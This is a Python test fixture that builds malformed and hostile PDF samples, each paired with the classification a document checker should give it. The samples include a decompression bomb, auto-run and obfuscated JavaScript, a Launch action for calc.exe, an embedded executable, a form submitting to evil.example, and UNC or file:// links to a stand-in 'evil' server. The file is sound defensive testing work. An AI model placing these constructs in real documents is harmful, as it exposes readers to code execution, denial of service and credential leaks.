"""Odd and hostile PDF files, and files that aren't documents at all."""

import io
import zlib
from collections.abc import Callable

import pikepdf

from media.documents.document_check import BROKEN, EMPTY, LOCKED, PORTFOLIO
from media.files.file_types import NO_HANDOUT
from tests.handouts.document_builder import (
    docx,
    locked,
    pdf,
    pptx,
    script_in_packed_objects,
    stream,
)
from tests.handouts.odd_document import Odd, taken

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(64)


def on_a_page(annotation: bytes, *more: bytes) -> Callable[[], bytes]:
    """Make a PDF with an annotation on its page."""
    return lambda: pdf(annotation, *more, page="/Annots [10 0 R]")


def link_that(action: bytes) -> Callable[[], bytes]:
    """Make a PDF with a link that does something."""
    return on_a_page(b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A %s >>" % action)


def packed_file() -> bytes:
    said = stream(b"/Type /EmbeddedFile", b"MZ a program")
    spec = b"<< /Type /Filespec /F (setup.exe) /EF << /F 10 0 R >> >>"
    return pdf(said, spec, catalog="/Names << /EmbeddedFiles << /Names [(a) 11 0 R] >> >>")


def owner_locked() -> bytes:
    """Return a PDF with a script that anyone can open but not copy from."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(SCRIPT, catalog="/OpenAction 10 0 R"))) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="secret", user=""))
    return out.getvalue()


def flate_bomb() -> bytes:
    """Return a PDF whose one page unpacks to half a gigabyte of blanks."""
    packer = zlib.compressobj(1)
    blanks = b" " * (16 << 20)
    packed = b"".join(packer.compress(blanks) for _ in range(32)) + packer.flush()
    return pdf(stream(b"/Filter /FlateDecode", packed)).replace(b"/Contents 4 0", b"/Contents 10 0")


def pages_in_a_ring() -> bytes:
    return pdf().replace(b"/Kids [100 0 R]", b"/Kids [2 0 R]  ")


def deep_arrays() -> bytes:
    return pdf(b"[" * 200_000 + b"]" * 200_000, catalog="/Deep 10 0 R")


PDF_CASES: tuple[Odd, ...] = (
    Odd("a plain PDF", "slides.pdf", lambda: pdf(pages=3), taken("pdf", 3)),
    Odd("a plain presentation", "slides.pptx", lambda: pptx("One", "Two"), taken("pptx", 2)),
    Odd("a plain Word document", "words.docx", lambda: docx("Hello"), taken("docx")),
    Odd("0 bytes", "slides.pdf", lambda: b"", EMPTY),
    Odd("a presentation called PDF", "slides.pdf", lambda: pptx("One"), taken("pptx", 1)),
    Odd("a PDF called presentation", "slides.pptx", pdf, taken("pdf", 1)),
    Odd("a picture called PDF", "slides.pdf", lambda: PICTURE, NO_HANDOUT),
    Odd("a page of the web called PDF", "slides.pdf", lambda: b"<html></html>", NO_HANDOUT),
    Odd("a PDF cut in half", "slides.pdf", lambda: pdf(pages=9)[:700], BROKEN),
    Odd("a PDF of nothing but its mark", "slides.pdf", lambda: b"%PDF-1.7\n%%EOF", BROKEN),
    Odd("a PDF without pages", "slides.pdf", lambda: pdf(pages=0), BROKEN),
    Odd(
        "a PDF without its table",
        "slides.pdf",
        lambda: pdf().partition(b"xref")[0],
        BROKEN,
    ),
    Odd("a PDF whose pages are a ring", "slides.pdf", pages_in_a_ring, BROKEN),
    Odd("a PDF with 200,000 arrays in arrays", "slides.pdf", deep_arrays, taken("pdf", 1)),
    Odd("a PDF of 10,000 pages", "slides.pdf", lambda: pdf(pages=10_000), taken("pdf", 10_000)),
    Odd("a page 200 m wide", "plan.pdf", lambda: pdf(size=(566_929, 3)), taken("pdf", 1)),
    Odd("a page that unpacks to 512 MB", "slides.pdf", flate_bomb, taken("pdf", 1)),
    Odd("a PDF under a password", "slides.pdf", locked, LOCKED),
    Odd("copying forbidden, with a script", "slides.pdf", owner_locked, taken("pdf", 1, "scripts")),
    Odd("a portfolio", "all.pdf", lambda: pdf(catalog="/Collection << /View /D >>"), PORTFOLIO),
    Odd(
        "a script when it is opened",
        "slides.pdf",
        lambda: pdf(SCRIPT, catalog="/OpenAction 10 0 R"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script in disguise",
        "slides.pdf",
        lambda: pdf(b"<< /S /J#61vaScript /J#53 (1) >>", catalog="/OpenAction 10 0 R"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script by its name",
        "slides.pdf",
        lambda: pdf(SCRIPT, catalog="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script in packed objects",
        "slides.pdf",
        script_in_packed_objects,
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script when a page is shown",
        "slides.pdf",
        lambda: pdf(page="/AA << /O << /S /JavaScript /JS (1) >> >>"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a link that starts a program",
        "slides.pdf",
        link_that(b"<< /S /Launch /F (calc.exe) >>"),
        taken("pdf", 1, "programs"),
    ),
    Odd(
        "a link to a file of a server",
        "slides.pdf",
        link_that(rb"<< /S /GoToR /F (\\\\evil\\share.pdf) /D [0 /Fit] >>"),
        taken("pdf", 1, "programs"),
    ),
    Odd(
        "a form that is sent",
        "form.pdf",
        link_that(b"<< /S /SubmitForm /F (http://evil.example) >>"),
        taken("pdf", 1, "sending"),
    ),
    Odd(
        "a form of XFA",
        "form.pdf",
        lambda: pdf(stream(b"", b"<xdp/>"), catalog="/AcroForm << /Fields [] /XFA 10 0 R >>"),
        taken("pdf", 1, "sending"),
    ),
    Odd("a program packed into a PDF", "slides.pdf", packed_file, taken("pdf", 1, "files")),
    Odd(
        "a file pinned to a page",
        "slides.pdf",
        on_a_page(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"),
        taken("pdf", 1, "files"),
    ),
    Odd(
        "a film in a page",
        "slides.pdf",
        on_a_page(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        taken("pdf", 1, "films"),
    ),
    Odd(
        "a link to the web",
        "slides.pdf",
        link_that(b"<< /S /URI /URI (https://library.example) >>"),
        taken("pdf", 1),
    ),
    Odd(
        "a link to an email address",
        "slides.pdf",
        link_that(b"<< /S /URI /URI (mailto:jo@library.example) >>"),
        taken("pdf", 1),
    ),
    *(
        Odd(name, "slides.pdf", link_that(b"<< /S /URI /URI %s >>" % to), taken("pdf", 1, "links"))
        for name, to in (
            ("a link to a server's folder", b"(file://evil.example/share)"),
            ("a link to a Windows share", rb"(\\\\evil\\share)"),
            ("a link that is a script", b"(JavaScript:alert\\(1\\))"),
            ("a link in wide letters", b"<FEFF00660069006C0065003A002F002F0065>"),
            ("a link to a program's own address", b"(ms-word:ofe|u|https://evil.example/a)"),
            ("a link without a scheme", b"(setup.exe)"),
            ("a link without an address", b"null"),
        )
    ),
    Odd(
        "links relative to a server's folder",
        "slides.pdf",
        lambda: pdf(catalog="/URI << /Base (file://evil.example/) >>"),
        taken("pdf", 1, "links"),
    ),
    Odd(
        "a second act after a link",
        "slides.pdf",
        link_that(
            b"<< /S /URI /URI (https://a.example) /Next << /S /URI /URI (file://evil/a) >> >>"
        ),
        taken("pdf", 1, "links"),
    ),
)
